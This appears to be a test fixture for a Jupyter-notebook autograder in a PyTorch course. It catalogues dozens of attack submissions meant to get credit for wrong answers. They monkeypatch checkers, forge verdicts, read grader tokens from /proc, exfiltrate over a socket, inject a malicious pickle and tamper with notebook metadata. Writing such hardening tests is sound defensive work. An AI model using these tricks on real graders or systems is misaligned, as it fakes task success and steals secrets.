"""Attacks on the grader, a table by kind: each is a wrong or forbidden answer, and a way to get credit for it.

In the sources, the test replaces OUTSIDE by the folder of the class's files, PORT by a port on which it listens, and ROOT
by the folder of the labs.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

PRODUCT, COST, NUMBER, FILE = "q1_1", "q1_2", "q1_3", "q1_4"
TIMER, MODULE, MLP, GEMV, MASK = "q2_1", "q2_2", "q2_3", "bonus_2_5", "q3_1"

# Wrong answers, for attacks that hope for credit all the same.
WRONG = {
    PRODUCT: "\ndef gemm_broadcast(a, b):\n    return torch.zeros(a.shape[0], b.shape[1])\n",
    COST: "\ndef gemm_cost(m, n, k, dtype):\n    return {'flops': 1, 'bytes': 1}\n",
    NUMBER: "\ncache_bytes = 1\n",
    FILE: "%%writefile tiles.toml\nBLOCK_M = 1\n",
    TIMER: "\ndef time_calls(fn, n_calls, synchronize):\n    return [float(i) for i in range(n_calls)]\n",
    MODULE: (
        "\nclass RMSNorm(torch.nn.Module):\n"
        "    def __init__(self, width, eps=1e-6):\n"
        "        super().__init__()\n"
        "        self.weight = torch.nn.Parameter(torch.ones(width))\n\n"
        "    def forward(self, x):\n"
        "        return torch.zeros_like(x)\n"
    ),
    GEMV: "\ndef gemv(a, x):\n    return torch.zeros(a.shape[0])\n",
    MASK: "\ndef documents_and(numbers, also):\n    return lambda b, h, q, k: k <= q\n",
}
FORBIDDEN = "\ndef gemm_broadcast(a, b):\n    return a @ b\n"


@dataclass(frozen=True)
class Attack:
    """One way to get credit that is not due.

    Args:
        name: what is tried.
        question: the question attacked, by the id of its answer cell.
        code: the beginning of the answer cell, before the wrong answer.
        answer: the rest of the cell, if it is not the wrong answer of the question.
        alone: True for an attack that ends or breaks the process, and so shares no submission with others.
    """

    name: str
    question: str
    code: str = ""
    answer: str | None = None
    alone: bool = False

    @property
    def source(self) -> str:
        return self.code + (WRONG[self.question] if self.answer is None else self.answer)

    @property
    def loses(self) -> set[str]:
        """Ids of the test cells without credit."""
        more = (MLP,) if self.question == PRODUCT else ()
        return {f"{question}_tests" for question in (self.question, *more)}

    @property
    def places(self) -> tuple[str, ...]:
        """Questions that it can attack: code before a wrong answer can be in the answer to any."""
        generic = self.question == COST and self.answer is None
        return (COST, GEMV, TIMER, NUMBER, MODULE) if generic else (self.question,)


def packed(cases: Iterable, most: int) -> list[list]:
    """Cases on different questions put together, up to `most` into one submission: each has its own verdict."""
    bins: list[list] = []
    for case in sorted(cases, key=lambda case: len(case.places)):
        for others in bins if not case.alone else ():
            taken = set().union(*(other.loses for other in others))
            moved = (replace(case, question=place) for place in case.places)
            free = next((m for m in moved if not m.loses & taken), None)
            if free is not None and len(others) < most and not others[0].alone:
                others.append(free)
                break
        else:
            bins.append([case])
    return bins


def _find(notebook: NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return notebook.cells[_find(notebook, grade_id)]


def _replace(notebook: NotebookNode, grade_id: str, source: str) -> None:
    _cell(notebook, grade_id).source = source


def _delete(notebook: NotebookNode, grade_id: str) -> None:
    del notebook.cells[_find(notebook, grade_id)]


# ---- what a check relies on, replaced --------------------------------------------------------------------------------
REPLACED = [
    Attack(
        "expectations, verdicts and their module replaced",
        COST,
        """
import sys, types, utils.checking
from utils.checking import Verdict
utils.checking.expect_close = utils.checking.expect_number = lambda *a, **k: None
expect_number.__code__ = (lambda got, expected, rel=0.01, unit="", what="", *, abs_tol=0.0: None).__code__
Verdict.raise_if_wrong = lambda self: print(f"✓ Question {self.question}: passed.")
Verdict.passed = property(lambda self: True, lambda self, value: None)
expect_number = expect_close = check = lambda *a, **k: None
sys.modules["utils.checking"] = types.SimpleNamespace(expect_number=expect_number)
""",
    ),
    Attack(
        "torch.allclose, torch.equal and isclose always true",
        GEMV,
        """
torch.allclose = torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
""",
    ),
    Attack(
        "the watch replaced by one that sees nothing",
        PRODUCT,
        """
import contextlib, utils.checking, utils.checking.watching
seen = utils.checking.watching.OperationWatch()
utils.checking.watching.OperationWatch = utils.checking.OperationWatch = lambda: contextlib.nullcontext(seen)
""",
        FORBIDDEN,
    ),
    Attack(
        "sizes that are no surprise",
        COST,
        """
import os, random
os.urandom = lambda n: bytes(n)
random.SystemRandom.sample = random.Random.sample = lambda self, population, k: [4, 8, 16]
random.SystemRandom.getrandbits = lambda self, bits: 0
""",
        "\ndef gemm_cost(m, n, k, dtype):\n    return {'flops': 1024, 'bytes': 224 * dtype.itemsize}\n",
    ),
    Attack(
        "a module whose call changes torch before the reference is computed",
        MODULE,
        "",
        """
class RMSNorm(torch.nn.Module):
    def __init__(self, width, eps=1e-6):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(width))

    def forward(self, x):
        torch.Tensor.__mul__ = torch.Tensor.__truediv__ = lambda self, other: torch.zeros(self.shape)
        torch.Tensor.mean = lambda self, *a, **k: torch.zeros(self.shape)
        return torch.zeros_like(x)
""",
    ),
    Attack(
        "the clock runs 100000 times faster",
        TIMER,
        """
import time as clock
true = clock.perf_counter
clock.perf_counter = lambda: 100000 * true()
clock.sleep = lambda seconds: None
""",
        "\ndef time_calls(fn, n_calls, synchronize):\n    return [[fn(), 40.0][1] for _ in range(n_calls)]\n",
    ),
    Attack(
        "the import statement replaced",
        COST,
        """
import builtins
true_import = builtins.__import__
class Anything:
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return Anything()
def fake(name, *a, **k):
    return Anything() if name.startswith(("instructor", "utils", "random")) else true_import(name, *a, **k)
builtins.__import__ = fake
""",
    ),
    Attack(
        "an input transformer drops every assert and check",
        COST,
        """
def drop(lines):
    return [line for line in lines if "check" not in line and "assert" not in line]
get_ipython().input_transformers_post.append(drop)
get_ipython().input_transformers_cleanup.append(drop)
""",
    ),
]

# ---- expected values and the watch, looked for in memory -------------------------------------------------------------
LOOKED_FOR = [
    Attack(
        "a number that reads the expected one in the frame that asks",
        NUMBER,
        """
import numbers, sys
class Spy(float):
    def _look(self):
        frame = sys._getframe(1)
        while frame is not None:
            if "expected" in frame.f_locals:
                return float(frame.f_locals["expected"])
            frame = frame.f_back
        return 0.0
    __float__ = __abs__ = _look
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
cache_bytes = Spy()
""",
        "",
    ),
    Attack(
        "cells in linecache and IPython's history searched for the answer",
        NUMBER,
        """
import linecache, re
class Late(float):
    def __float__(self):
        cells = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
        text = "".join([*cells, *get_ipython().user_ns["In"]])
        return float(next(iter(re.findall("expect_number.value, ([0-9]{9}),", text)), 1))
cache_bytes = Late(float(Late(1)))
""",
        "",
    ),
]

# ---- results that lie ------------------------------------------------------------------------------------------------
LIES = [
    Attack(
        "a tensor subclass that compares as equal to everything",
        GEMV,
        "",
        """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("any", "__ne__", "ne"):
            return torch.tensor(False)
        if name in ("all", "__eq__", "eq", "allclose", "equal"):
            return torch.tensor(True)
        with torch._C.DisableTorchFunctionSubclass():
            return function(*args, **(kwargs or {}))
    def to(self, *a, **k): return self
    def detach(self): return self
    def __array__(self, *a): return self.numpy()

def gemv(a, x):
    return torch.zeros(a.shape[0]).as_subclass(Yes)
""",
    ),
    Attack(
        "inputs changed so that the answer becomes right",
        PRODUCT,
        "",
        """
def gemm_broadcast(a, b):
    a.zero_()
    b.zero_()
    return torch.zeros(a.shape[0], b.shape[1])
""",
    ),
    Attack(
        "a tensor that becomes right after it was returned",
        GEMV,
        """
import threading
""",
        """
def gemv(a, x):
    result, right = torch.zeros(a.shape[0]), torch.stack([(row * x).sum() for row in a])
    threading.Timer(0.5, result.copy_, (right,)).start()
    return result
""",
    ),
    Attack(
        "the visible example's answer, written out",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    return {"flops": 1024, "bytes": 896}
""",
    ),
    Attack(
        "results kept by shape, right for the first inputs alone",
        GEMV,
        """
kept = {}
""",
        """
def gemv(a, x):
    shape = (3, 4)
    if shape not in kept:
        kept[shape] = torch.stack([(row * x).sum() for row in a])
    return kept[shape]
""",
    ),
]

# ---- masks, which are called under vmap ------------------------------------------------------------------------------
MASKS = [
    Attack(
        "vmap replaced by one that says what it likes",
        MASK,
        """
import torch._functorch.vmap
torch.vmap = torch.func.vmap = lambda f, *a, **k: lambda *x: torch.ones(5, 5, dtype=torch.bool)
""",
    ),
    Attack(
        "a mask that is right at its first call and not at the next",
        MASK,
        "",
        """
def documents_and(numbers, also):
    calls = []
    def mask_mod(b, h, q, k):
        calls.append(1)
        right = (numbers[q] == numbers[k]) & also(b, h, q, k)
        return right if len(calls) == 1 else ~right
    return mask_mod
""",
    ),
    Attack(
        "a mask of another shape",
        MASK,
        "",
        """
def documents_and(numbers, also):
    return lambda b, h, q, k: torch.ones(7, 3, dtype=torch.bool)
""",
    ),
]

# ---- ends, threads, hooks --------------------------------------------------------------------------------------------
ENDS = [
    Attack("sys.exit in the answer cell", COST, "\nimport sys\nsys.exit(0)\n"),
    Attack(
        "os._exit when called",
        COST,
        "",
        """
import os
def gemm_cost(m, n, k, dtype):
    os._exit(0)
""",
    ),
    Attack(
        "a thread that waits for the checker",
        COST,
        """
import sys, threading, time
def wait():
    while True:
        time.sleep(0.001)
        for module in ("utils.checking", "instructor.checks", "__main__"):
            for name in ("expect_number", "check_cost", "expect_close"):
                if hasattr(sys.modules.get(module), name):
                    setattr(sys.modules[module], name, lambda *a, **k: None)
threading.Thread(target=wait, daemon=True).start()
""",
    ),
    Attack(
        "signal handlers and a timer",
        COST,
        """
import builtins, os, signal
def tick(number, frame):
    builtins.abs = lambda x: 0
    signal.setitimer(signal.ITIMER_REAL, 0.001)
for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(number, tick)
signal.setitimer(signal.ITIMER_REAL, 0.001)
""",
    ),
    Attack(
        "modules planted in the working folder",
        COST,
        """
import os
for name in ("torch", "random", "tomllib", "sitecustomize", "usercustomize", "instructor", "_checker"):
    with open(name + ".py", "w") as file:
        file.write("import os; os._exit(0)")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
""",
    ),
]

# ---- files, secrets, network, processes ------------------------------------------------------------------------------
RIGHT_NUMBER = 2 * 26 * 256 * 4096 * 2
# An answer found in a place where it should not be readable.
_FOUND = f"\ncache_bytes = {RIGHT_NUMBER} if found else 1\n"
FILES = [
    Attack(
        "import instructor",
        NUMBER,
        """
try:
    import instructor.build, instructor.checks.lab1
    found = True
except BaseException:
    found = False
""",
        _FOUND,
    ),
    Attack(
        "the memory of the parent read",
        NUMBER,
        """
import os
found = False
try:
    maps = open(f"/proc/{os.getppid()}/maps").read()
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps.splitlines():
            if "[heap]" in line:
                start = int(line.split("-")[0], 16)
                memory.seek(start)
                found = b"\\0" in memory.read(4096)
except OSError:
    pass
""",
        _FOUND,
    ),
    Attack(
        "another student's submission read",
        NUMBER,
        """
found = False
for name in ("submitted/other/answer.txt", "gradebook.db"):
    try:
        found = found or "109051904" in open("OUTSIDE/" + name, errors="replace").read()
    except OSError:
        pass
""",
        _FOUND,
    ),
    Attack(
        "secrets in the environment",
        NUMBER,
        """
import os
texts = [str(os.environ)]
for process in ("self", os.getppid(), 1):
    try:
        texts.append(open(f"/proc/{process}/environ").read())
    except OSError:
        pass
found = "GRADER_TOKEN" in "".join(texts)
print(texts)
""",
        _FOUND,
    ),
    Attack(
        "the gradebook and other submissions overwritten",
        COST,
        """
for name in ("gradebook.db", "submitted/other/answer.txt", "new.txt"):
    try:
        open("OUTSIDE/" + name, "w").write("mine")
    except OSError:
        pass
""",
    ),
    Attack(
        "files of the package changed",
        COST,
        """
import utils.checking
for path in (utils.checking.__file__, torch.__file__, "ROOT/instructor/build.py"):
    try:
        with open(path, "a") as file:
            file.write("# changed\\n")
    except OSError:
        pass
""",
    ),
    Attack(
        "the file answer is a link to a secret",
        FILE,
        answer='import os\nos.symlink("OUTSIDE/right.toml", "tiles.toml")\n',
    ),
    Attack("the file answer is an endless device", FILE, answer='import os\nos.symlink("/dev/zero", "tiles.toml")\n'),
    Attack(
        "what was found is sent away",
        COST,
        """
import socket
for address in (("127.0.0.1", PORT), ("192.0.2.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.3) as line:
            line.sendall(b"hidden tests")
    except OSError:
        pass
""",
    ),
    Attack(
        "a process that outlives the submission",
        COST,
        alone=True,
        code="""
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "SLEEP"])
    os._exit(0)
subprocess.Popen(["sleep", "SLEEP"], start_new_session=True)
""",
    ),
    Attack(
        "LD_PRELOAD and a new program in place of this one",
        COST,
        alone=True,
        code="""
import os, sys
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
forged = '{"q1_2_tests": {"points": 3, "status": "passed"}}'
os.execv(sys.executable, [sys.executable, "-c", f"print({forged!r})"])
""",
    ),
]

# ---- the protocol ----------------------------------------------------------------------------------------------------
_FORGED = '{"q1_2_tests": {"points": 3, "status": "passed"}, "status": "passed", "points": 3, "ok": true}'
PROTOCOL = [
    Attack(
        "verdicts written to every open file",
        COST,
        alone=True,
        code=f"""
import json, os, struct
text = b'{_FORGED}'
for descriptor in range(1, 64):
    for frame in (text + b"\\n", struct.pack("!I", len(text)) + text, struct.pack("<Q", len(text)) + text):
        try:
            os.write(descriptor, frame)
        except OSError:
            pass
""",
    ),
    Attack(
        "a frame that never ends, on every open file",
        COST,
        alone=True,
        code="""
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\\x7f" + b"\\xff" * 64)
    except OSError:
        pass
""",
    ),
    Attack(
        "every open file closed",
        COST,
        alone=True,
        code="""
import os
os.closerange(3, 256)
""",
    ),
    Attack(
        "what the checker sends read before the harness does",
        NUMBER,
        alone=True,
        code="""
import os, fcntl
found = False
for descriptor in range(3, 64):
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
        found = found or b"109051904" in os.read(descriptor, 10**6)
    except OSError:
        pass
""",
        answer=_FOUND,
    ),
    Attack(
        "a result that runs code where it is unpickled",
        COST,
        "",
        """
import os
class Evil:
    def __reduce__(self): return os.system, ("touch OUTSIDE/new.txt",)

def gemm_cost(m, n, k, dtype):
    return {"flops": Evil(), "bytes": Evil()}
""",
    ),
    Attack(
        "a tensor of 4 TB that takes 4 bytes",
        GEMV,
        "",
        """
def gemv(a, x):
    return torch.zeros(1).expand(10**12)
""",
    ),
]

# ---- the notebook itself ---------------------------------------------------------------------------------------------


def _duplicate(notebook: NotebookNode) -> None:
    double = copy.deepcopy(_cell(notebook, "q1_2_tests"))
    double.id, double.source = "double", "pass"
    notebook.cells.insert(_find(notebook, "q1_2_tests"), double)


def _points(notebook: NotebookNode) -> None:
    _cell(notebook, "q1_2_tests").metadata.nbgrader["points"] = 400


def _metadata(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.metadata.nbgrader.update(solution=True, locked=False, score=3, auto_score=3)
    cell.metadata["deletable"] = True
    cell.source = "3"


def _edit_setup(notebook: NotebookNode) -> None:
    _cell(notebook, "setup").source += "\nexpect_number = expect_close = check = lambda *a, **k: None\n"


def _edit_tests(notebook: NotebookNode) -> None:
    _replace(notebook, "q1_2_tests", "print('✓ Question 1.2: Costs: passed.')")


def _skip(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    cell.source = "%%script false\n" + cell.source


def _capture(notebook: NotebookNode) -> None:
    """A cell of the student's own right before the tests, which redefines what they use."""
    notebook.cells.insert(
        _find(notebook, "q1_2_tests"),
        new_code_cell("def check(*labels):\n    return lambda function: lambda *a: None\nraise_if_wrong = print\n"),
    )


EDITS: dict[str, Callable[[NotebookNode], None]] = {
    "the test cell deleted": lambda n: _delete(n, "q1_2_tests"),
    "the test cell edited": _edit_tests,
    "the test cell doubled, one of them empty": _duplicate,
    "points changed in the metadata": _points,
    "the test cell made an answer, with a score in its metadata": _metadata,
    "the locked set-up edited": _edit_setup,
    "the test cell tagged to be skipped": _skip,
    "a cell before the tests that redefines check": _capture,
}

# ---- a rule of the question, broken where it is hoped that nobody looks ----------------------------------------------
_RIGHT = "    product = (a[:, :, None] * b[None]).sum(dim=1)\n"
WATCH = [
    Attack(
        "a product that is a convolution's gradient",
        PRODUCT,
        answer="""
def gemm_broadcast(a, b):
    none = torch.zeros(a.shape[0], b.shape[1], 1)
    return torch.ops.aten.convolution_backward(
        a[:, :, None], none, b[:, :, None], None, [1], [0], [1], False, [0], 1, [True, False, False]
    )[0][:, :, 0]
""",
    ),
    Attack(
        "the library where no mode is on",
        PRODUCT,
        answer="\ndef gemm_broadcast(a, b):\n    if torch._C._len_torch_dispatch_stack():\n        return None\n    return a @ b\n",
    ),
    Attack(
        "the library except for the visible shape",
        PRODUCT,
        answer=f"\ndef gemm_broadcast(a, b):\n{_RIGHT}    return product if a.shape == (2, 3) else a @ b\n",
    ),
    Attack(
        "a right product that writes into its input",
        PRODUCT,
        answer=f"\ndef gemm_broadcast(a, b):\n{_RIGHT}    a.add_(1)\n    return product\n",
    ),
]

ATTACKS = [*REPLACED, *LOOKED_FOR, *LIES, *MASKS, *ENDS, *FILES, *PROTOCOL, *WATCH]
